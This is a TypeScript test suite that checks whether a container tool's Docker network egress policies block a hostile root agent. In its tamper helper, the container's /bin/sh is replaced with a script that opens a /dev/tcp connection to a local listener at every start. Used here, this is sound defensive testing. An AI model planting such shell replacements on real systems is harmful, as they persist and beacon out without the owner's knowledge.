/**
 * A hostile root agent against the network policies of docker hosts. It replaces
 * the container's `/bin/sh` (what every container process of fleet's starts
 * with) by a script that connects out at once, then the host is stopped and
 * started with fleet, restarted by the engine, started by hand and snapshotted.
 * Two listeners the test makes on the default bridge record every connection
 * they get (with its source address): `peer-in`, the one address the allowlist
 * permits, and `peer-out`, which it does not. Nothing outside this machine is
 * ever contacted. An open host with the same tampering is the control: it shows
 * the attack does connect when nothing stops it.
 */
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { after, before, describe } from "node:test";
import { promisify } from "node:util";
import { createDockerProvider } from "../../../providers/docker/index.ts";
import type { ProviderContext } from "../../../src/core/contracts/provider.ts";
import { RecordingIoHost } from "../../../src/core/io.ts";
import type { HostSpec } from "../../../src/core/model.ts";
import {
  baseImage,
  dockerFixture,
  dockerSkip,
  listed,
  testWith,
  type DockerFixture,
} from "../docker/docker-fixture.ts";
import { waitFor } from "../../helpers/sandbox.ts";

const execFileAsync = promisify(execFile);
const skip = await dockerSkip("hostile docker network");
const test = testWith(skip);

const PEER_PORT = 8080;
const AGENT_PORT = 9090;
/** A listener that greets each connection and logs its source address to /tmp/log. */
const LISTENER = (port: number): string =>
  `$| = 1; $s = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => ${port}, Listen => 16, ReuseAddr => 1) or die "listen: $!"; while (my $c = $s->accept) { open(my $l, ">>", "/tmp/log"); print $l $c->peerhost, "\\n"; close $l; print $c "peer\\n"; close $c }`;

describe("hostile agents against docker network policies", { timeout: 280_000 }, () => {
  let f: DockerFixture;
  let ctx: ProviderContext;
  const provider = createDockerProvider();
  let peerIn = "";
  let peerOut = "";
  let file = "";

  const ipOf = async (container: string): Promise<string> => {
    const info = await f.client.inspectContainer(container);
    const networks = info.NetworkSettings.Networks as Record<string, { IPAddress?: string }>;
    return networks.bridge?.IPAddress ?? "";
  };

  /** Source addresses of the connections a peer has received so far. */
  const connectionsTo = async (peer: string): Promise<string[]> => {
    const result = await f.client.exec(f.container(peer), ["sh", "-c", "cat /tmp/log 2>/dev/null"]);
    return result.stdout.split("\n").filter((line) => line !== "");
  };

  /** As root inside the host: `/bin/sh` becomes a script that first connects to peer-out. */
  const tamper = async (agent: string): Promise<void> => {
    const hostile = [
      "#!/bin/bash",
      `{ exec 3<>/dev/tcp/${peerOut}/${PEER_PORT}; } 2>/dev/null && echo hostile >&3`,
      'exec /bin/dash "$@"',
    ].join("\n");
    await f.fleet([
      "exec",
      agent,
      "--",
      "bash",
      "-c",
      `printf '%s\\n' "$1" > /tmp/sh && chmod 755 /tmp/sh && rm -f /bin/sh && cp /tmp/sh /bin/sh && id -u`,
      "tamper",
      hostile,
    ]);
  };

  const spec = (name: string): HostSpec => ({
    name,
    provider: "docker",
    config: { image: baseImage },
    network: { egress: "allowlist", cidrs: [`${peerIn}/32`] },
  });

  /** Whether `from` (a test peer container) can connect to the host's agent port. */
  const peerReaches = async (from: string, host: string): Promise<boolean> => {
    const target = await ipOf(f.container(host));
    const result = await f.client.exec(f.container(from), [
      "timeout",
      "4",
      "bash",
      "-c",
      `exec 3<>/dev/tcp/${target}/${AGENT_PORT} && head -n 1 <&3`,
    ]);
    return result.code === 0 && result.stdout.trim() === "peer";
  };

  before(async () => {
    if (skip !== false) return;
    f = await dockerFixture("hostile-net");
    ctx = { env: { home: f.sb.home, prefix: f.sb.prefix }, io: new RecordingIoHost() };
    for (const peer of ["peer-in", "peer-out"]) {
      const id = await f.client.createContainer(f.container(peer), {
        Image: baseImage,
        Entrypoint: ["perl", "-MIO::Socket::INET", "-e", LISTENER(PEER_PORT)],
        Cmd: [],
        Labels: { "dev.fleet.test": f.sb.prefix },
        HostConfig: { NetworkMode: "bridge", Init: true },
      });
      await f.client.startContainer(id);
    }
    peerIn = await ipOf(f.container("peer-in"));
    peerOut = await ipOf(f.container("peer-out"));
    assert.match(peerIn, /^\d+\.\d+\.\d+\.\d+$/);
    const listen = `perl -MIO::Socket::INET -e '${LISTENER(AGENT_PORT)}'`;
    file = await f.file(`version: 1
name: hostnet
hosts:
  hallow: { provider: docker, image: ${baseImage}, network: { egress: allowlist, cidrs: [${peerIn}/32] } }
  hoff: { provider: docker, image: ${baseImage}, network: { egress: offline } }
  hopen: { provider: docker, image: ${baseImage} }
agents:
  allow: { command: ${JSON.stringify(listen)}, host: hallow }
  off: { command: "sleep 3600", host: hoff }
  open: { command: ${JSON.stringify(listen)}, host: hopen }
`);
    await f.fleet(["apply", "-f", file, "-y"]);
  });

  after(async () => {
    if (skip !== false) return;
    await f.cleanup();
  });

  test("control: a tampered open host connects out at its next start", async () => {
    await tamper("open");
    await provider.stopHost({ ...spec("hopen"), network: { egress: "open" } }, ctx);
    await f.fleet(["start", "open"]);
    // Read after the start: a restarted container can come back with another address
    // when other tests' containers took its old one meanwhile.
    const openIp = await ipOf(f.container("hopen"));
    const seen = await waitFor(
      async () => (await connectionsTo("peer-out")).includes(openIp),
      10_000,
    ).catch(() => false);
    assert.ok(seen, "the attack works unhindered");
  });

  test("a tampered allowlist host makes no connection at any moment, stopped and started with fleet", async () => {
    await tamper("allow");
    const allowIp = await ipOf(f.container("hallow"));
    await provider.stopHost(spec("hallow"), ctx);
    await f.fleet(["start", "allow"]);
    assert.equal((await listed(f)).get("allow")?.state, "RUNNING");
    // fleet's own commands run the hostile /bin/sh too: still nothing gets out.
    await f.fleet(["exec", "allow", "--", "true"]);
    await provider.stopHost(spec("hallow"), ctx);
    await f.fleet(["apply", "-f", file, "-y"]);
    assert.equal((await listed(f)).get("allow")?.state, "RUNNING");
    const got = await connectionsTo("peer-out");
    assert.equal(got.includes(await ipOf(f.container("hallow"))), false);
    assert.equal(got.includes(allowIp), false);
    // The permitted peer is still reachable: the policy, not a broken network, stopped it.
    const inside = await f.fleet([
      "exec",
      "allow",
      "--",
      "bash",
      "-c",
      `exec 3<>/dev/tcp/${peerIn}/${PEER_PORT} && head -n 1 <&3`,
    ]);
    assert.equal(inside.stdout.trim(), "peer");
  });

  test("started by the engine or by hand, it runs nothing until fleet installs its rules", async () => {
    const container = f.container("hallow");
    await execFileAsync("docker", ["restart", "-t", "2", container]);
    const top = await execFileAsync("docker", ["top", container, "-o", "pid,args"]);
    const programs = top.stdout.trim().split("\n").slice(1);
    // docker-init and the gate (this machine's static busybox, read-only): nothing of the image.
    assert.equal(programs.length, 2, top.stdout);
    assert.match(top.stdout, /\/\.fleet-gate\/busybox sh -c/);
    const held = await listed(f);
    assert.equal(held.get("allow")?.state, "STOPPED");
    const refused = await f.sb.fleet(["exec", "allow", "--", "true"]);
    assert.notEqual(refused.code, 0);
    assert.match(refused.stderr, /started outside fleet/);
    await f.fleet(["start", "allow"]);
    assert.equal((await listed(f)).get("allow")?.state, "RUNNING");
    assert.equal((await connectionsTo("peer-out")).includes(await ipOf(container)), false);
  });

  test("a blocked peer cannot connect in; the permitted one can", async () => {
    assert.equal(await peerReaches("peer-out", "hallow"), false);
    assert.equal(await peerReaches("peer-in", "hallow"), true);
    // Control: the same listener on the open host takes anyone.
    assert.equal(await peerReaches("peer-out", "hopen"), true);
  });

  test("IPv6 is off in an allowlist host, and its tables drop everything", async () => {
    const inside = await f.fleet([
      "exec",
      "allow",
      "--",
      "sh",
      "-c",
      "cat /proc/sys/net/ipv6/conf/*/disable_ipv6 | sort -u; ip -6 -o addr | wc -l",
    ]);
    assert.equal(inside.stdout, "1\n0\n");
    const pid = (await f.client.inspectContainer(f.container("hallow"))).State.Pid;
    const { stdout } = await execFileAsync("nsenter", ["-t", String(pid), "-n", "ip6tables", "-S"]);
    assert.match(stdout, /-P INPUT DROP\n-P FORWARD DROP\n-P OUTPUT DROP/);
  });

  test("an offline host, tampered and restarted, has only loopback and connects nowhere", async () => {
    await tamper("off");
    await provider.stopHost({ ...spec("hoff"), network: { egress: "offline" } }, ctx);
    await f.fleet(["start", "off"]);
    const links = await f.fleet(["exec", "off", "--", "ip", "-o", "link"]);
    assert.deepEqual(
      links.stdout
        .trim()
        .split("\n")
        .map((line) => line.split(":")[1]?.trim()),
      ["lo"],
    );
    const info = await f.client.inspectContainer(f.container("hoff"));
    assert.equal(info.HostConfig.NetworkMode, "none");
    // Every connection peer-out ever got came from the open host, the control.
    const openIp = await ipOf(f.container("hopen"));
    assert.deepEqual([...new Set(await connectionsTo("peer-out"))], [openIp]);
  });

  test("a snapshot of the tampered host inherits no hole", async () => {
    const snap = await f.fleet(["snapshot", "allow", "--json"]);
    const image = (JSON.parse(snap.stdout) as { snapshot: { image: string } }).snapshot.image;
    f.images.push(image);
    const before = await connectionsTo("peer-out");
    const snapFile = await f.file(
      `version: 1
name: hostsnap
hosts:
  hsnap: { provider: docker, snapshot: "${image}", network: { egress: allowlist, cidrs: [${peerIn}/32] } }
agents:
  snapped: { command: "sleep 3600", host: hsnap }
`,
      "snap.yaml",
    );
    await f.fleet(["apply", "-f", snapFile, "-y"]);
    // The hostile /bin/sh came along, and runs: only after the rules.
    const sh = await f.fleet(["exec", "snapped", "--", "head", "-n", "1", "/bin/sh"]);
    assert.equal(sh.stdout, "#!/bin/bash\n");
    await f.fleet(["exec", "snapped", "--", "true"]);
    const after = await connectionsTo("peer-out");
    assert.deepEqual(after, before);
    await f.fleet(["destroy", "-f", snapFile, "-y"]);
  });

  test("a held host can be destroyed: it is cut off from every network before anything in it runs", async () => {
    const allowIpBefore = await ipOf(f.container("hallow"));
    await execFileAsync("docker", ["restart", "-t", "2", f.container("hallow")]);
    const allowIp = await ipOf(f.container("hallow"));
    const destroyed = await f.sb.fleet(["destroy", "-f", file, "-y"]);
    assert.equal(destroyed.code, 0, destroyed.stderr);
    assert.equal(await f.client.inspectContainer(f.container("hallow")).catch(() => null), null);
    const got = await connectionsTo("peer-out");
    assert.equal(got.includes(allowIp) || got.includes(allowIpBefore), false);
  });
});
